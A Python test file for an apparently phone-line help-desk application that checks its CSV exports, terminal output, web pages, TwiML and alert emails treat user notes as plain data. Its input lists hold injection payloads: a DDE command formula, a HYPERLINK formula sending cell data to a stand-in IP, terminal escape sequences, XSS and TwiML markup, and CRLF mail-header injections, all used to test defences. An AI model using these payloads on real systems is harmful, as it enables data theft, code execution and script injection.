"""What people wrote is data wherever it goes. For each way out, a table of what has meant something there."""

from __future__ import annotations

import csv
import dataclasses
import html
import io
import json
import re
import xml.etree.ElementTree as ET
from email import message_from_bytes
from email.policy import default
from pathlib import Path

import pytest
from click.testing import CliRunner

from ivr import border
from ivr.authoring import parsing
from ivr.callbacks import callback
from ivr.cli import commands
from ivr.machine import alerts, config
from ivr.machine.alerts import Alert
from ivr.machine.config import Settings
from ivr.machine.log import _in_json, _in_words
from ivr.practice import transcript
from ivr.store import Store, name_of
from ivr.twilio import twiml
from tests.desk import NOW, Browser, ask, hire
from tests.test_twiml import assert_valid

#: What a spreadsheet may run, also behind spaces and in the wide letters of other keyboards.
FORMULAS = [
    "=1+1", "=HYPERLINK(\"http://192.0.2.1/?\"&A1,\"Ring\")", "+44 7700 900123", "-2+3", "@SUM(A1:A9)",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "'=1+1", "\"=1+1", "＝1+1",
    "|cmd", "%1", "=cmd|' /C calc'!A0", "\u2003=1+1", "\u3000=1+1", "\u2009'=1+1", "\u200d=1+1", "\x85=1+1",
]  # fmt: skip
#: What a terminal obeys or shows in another order: titles, colours, cleared screens, answers, links, hidden lines.
COMMANDS = [
    "\x1b[2J", "\x1b]0;title\x07", "\x1b]52;c;cm0=\x07", "\x1b[31mred", "\x9b31m", "\x90q\x9c", "a\rb", "a\x08b",
    "\x1b]8;;http://192.0.2.1\x1b\\link", "\x00", "\x7f", "\u202eevil", "\u2066x\u2069", "a\u2028b", "\ufeff", "\x0c",
    "\U000e0041",
]  # fmt: skip
#: What means something on a page, in TwiML, or in the words of a table in the terminal.
MARKUP = [
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "</Say><Dial>999</Dial>", "&lt;b&gt; &amp;",
    "{{ 7 * 7 }}", "{% print 1 %}", "]]>", "<!-- x -->", "[red]x[/red]", "[link=http://192.0.2.1]x[/link]",
    "' onclick='x",
]  # fmt: skip
#: What begins another field in the head of a mail.
HEADS = [
    "a\r\nBcc: x@example.org", "a\nX-Evil: 1", "a\rBcc: x@example.org", "a\r\n\r\nbody", "a\x0bb", "a\u2028Bcc: x",
    "a\x85b",
]  # fmt: skip
#: What is as it is everywhere: names and notes in many scripts.
HARMLESS = [
    "Zoë O'Neill-Smith", "আমার সন্তান", "میرا بچہ", "ਮੇਰਾ ਬੱਚਾ", "👨‍👩‍👧", "5 > 3 & 2 < 4", "two\nlines", "a\tb",
    "",
]  # fmt: skip
ALL = [*FORMULAS, *COMMANDS, *MARKUP, *HEADS]
_BAD = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028-\u202e\u2066-\u2069\ufeff\U000e0000-\U000e007f]")


@pytest.mark.parametrize("words", FORMULAS)
def test_a_spreadsheet_reads_no_cell_as_a_formula(words: str) -> None:
    out = io.StringIO()
    border.write_sheet(out, [[words, "next"]])

    (row,) = csv.reader(io.StringIO(out.getvalue(), newline=""))

    assert row[0].startswith("'") or row[0].isascii()
    assert row[0][0] in ("'", "\\"), "it is text, or begins with what is visible"
    assert row[1:] == ["next"]


@pytest.mark.parametrize("parts", [",", ";", "\t", "|", ":"])
@pytest.mark.parametrize("words", FORMULAS)
def test_a_note_has_no_second_cell_whatever_parts_cells_there(words: str, parts: str) -> None:
    """LibreOffice parts cells at commas, semicolons and tabs at once, unless they are in quotes."""
    out = io.StringIO()
    border.write_sheet(out, [[f"a note{parts}{words}{parts}"]])

    for delimiter in (",", ";", "\t", "|", ":"):
        (row,) = csv.reader(io.StringIO(out.getvalue(), newline=""), delimiter=delimiter)
        assert len(row) == 1


@pytest.mark.parametrize("words", ALL)
def test_nothing_commands_a_terminal(words: str) -> None:
    assert not _BAD.search(border.printable(words))


@pytest.mark.parametrize("words", [*MARKUP, *HARMLESS])
def test_other_words_are_printed_as_they_are(words: str) -> None:
    assert border.printable(words) == words


@pytest.mark.parametrize("words", [word for word in HARMLESS if "\n" not in word])
def test_harmless_words_are_the_same_in_a_cell_and_in_a_head(words: str) -> None:
    assert border.cell(words) == words
    assert border.head(words).split() == words.split()


@pytest.mark.parametrize("words", ALL)
def test_the_log_commands_no_terminal_and_says_the_same(words: str) -> None:
    line = _in_json(1.0, {"event": "told", "why": words}).decode()

    assert line.endswith("\n")
    assert not _BAD.search(line[:-1])
    assert "\n" not in line[:-1]
    assert json.loads(line)["why"] == words
    assert not _BAD.search(_in_words(1.0, {"event": words, "level": "error", "why": words}).decode())


@pytest.mark.parametrize("words", [*HEADS, *COMMANDS])
def test_nothing_begins_another_field_in_the_head_of_a_mail(settings: Settings, words: str) -> None:
    settings = dataclasses.replace(settings, smtp_from="line@example.org")
    mail = alerts._message(settings, ["desk@example.org"], Alert("a-1", f"A {words} B", "Words."))

    read = message_from_bytes(bytes(mail), policy=default)

    assert set(read.keys()) == {
        "From", "To", "Subject", "Date", "Message-ID", "Auto-Submitted", "Content-Type", "Content-Transfer-Encoding",
        "MIME-Version",
    }  # fmt: skip
    assert read.get_content().strip() == "Words."


@pytest.mark.parametrize("words", ALL)
def test_a_document_for_twilio_holds_words_and_no_verbs(words: str) -> None:
    document = assert_valid(twiml.say_and_end(words))

    assert [child.tag for child in document] == ["Say", "Hangup"]
    assert list(document[0]) == []
    assert [child.tag for child in ET.fromstring(twiml.text_back(words))] == ["Message"]
    assert_valid(twiml.ring_out("+447700900123", words, f"https://line.example/voice?x={words}", 20))


@pytest.mark.parametrize("words", MARKUP)
def test_a_page_shows_what_was_written_and_runs_none_of_it(asha: Browser, store: Store, words: str) -> None:
    saved = ask(store)
    store.requests.change(saved.id, lambda found: callback.note(found, "asha", words, NOW))

    page = asha.get(f"/request/{saved.id}").text

    assert words in html.unescape(page)
    if set(words) & set("<>\"'"):
        assert words not in page


@pytest.mark.parametrize("words", [FORMULAS[1], COMMANDS[1], MARKUP[8], HEADS[0]])
def test_the_export_and_the_list_at_the_terminal_hold_notes_as_data(
    machine: Settings, store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, words: str
) -> None:
    saved = ask(store)
    store.requests.change(saved.id, lambda found: callback.note(found, "asha", words, NOW))
    monkeypatch.setattr(config, "settings", lambda: machine)

    file = tmp_path / "list.csv"
    assert CliRunner().invoke(commands, ["callbacks", "export", str(file)]).exit_code == 0
    listed = CliRunner().invoke(commands, ["callbacks", "list"])

    (_, row) = csv.reader(io.StringIO(file.read_text("utf-8-sig"), newline=""))
    assert not row[-1].lstrip().startswith(("=", "+", "-", "@"))
    assert listed.exit_code == 0
    assert not _BAD.search(listed.output)
    assert not _BAD.search(file.read_text("utf-8-sig").replace("\r\n", "\n"))


def test_every_module_that_lets_words_out_is_on_the_list() -> None:
    """Whoever writes to a terminal by another way than the one function, or makes a spreadsheet, is found here."""
    for path in (config.ROOT / "ivr").rglob("*.py"):
        text, name = path.read_text(encoding="utf-8"), path.relative_to(config.ROOT / "ivr").as_posix()
        prints = re.search(r"\bprint\(|click\.echo\(|sys\.std(out|err)\.write\(|Console\(file", text)
        assert not prints or "border." in text or name in {"cli/voices.py"}, f"{name} prints past ivr/border.py"
        assert "csv.writer" not in text or name == "border.py", f"{name} makes a spreadsheet past ivr/border.py"
        assert "|safe" not in text, name


# --- one spelling, one count ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("sent", "kept"),
    [("a\r\nb", "a\nb"), ("a\rb", "a\nb"), ("Zoe\u0308", "Zo\u00eb"), (" x \r\n", "x"), ("é" * 2000, "é" * 2000),
     ("a\r\n" * 999 + "ab", "a\n" * 999 + "ab"), ("👪" * 1000, "👪" * 1000)],
)  # fmt: skip
def test_a_note_is_kept_whole_in_one_spelling(asha: Browser, store: Store, sent: str, kept: str) -> None:
    """Each of these fits into the field of the page, which counts line breaks once."""
    saved = ask(store)
    asha.get(f"/request/{saved.id}")

    asha.send(f"/request/{saved.id}/note", note=sent)

    assert store.requests.get(saved.id).events[-1].note == kept  # type: ignore[union-attr]


@pytest.mark.parametrize("sent", ["a" * 2001, "👪" * 1001, "\r\n".join(["ab"] * 700)])
def test_a_note_that_is_too_long_is_refused_and_shown_to_copy_not_cut(asha: Browser, store: Store, sent: str) -> None:
    saved = ask(store)
    asha.get(f"/request/{saved.id}")

    response = asha.send(f"/request/{saved.id}/note", note=sent)

    assert response.status_code == 413
    assert sent[-500:].replace("\r\n", "\n") in html.unescape(asha.page).replace("\r\n", "\n")
    assert store.requests.get(saved.id) == saved


def test_an_advisers_name_is_one_name_however_its_accent_was_typed(browser: Browser, store: Store) -> None:
    hire(store, name_of("Zoe\u0308"))

    assert "Waiting to be rung" in browser.sign_in("zo\u00eb").text


def test_words_of_staff_are_the_same_however_their_editor_spelled_an_accent() -> None:
    """A file name of a sound is made from the words, and a story compares words with them."""
    as_two, as_one = "say: Zoe\u0308\n", "say: Zo\u00eb\n"

    assert parsing.read(as_two, "x.yaml").data == parsing.read(as_one, "x.yaml").data
    head = "When    Wed 25 November 2026, 10:30\nFrom    07700 900123\n\nLINE    Zo"
    assert transcript.read(f"{head}e\u0308", "x").entries == transcript.read(f"{head}\u00eb", "x").entries
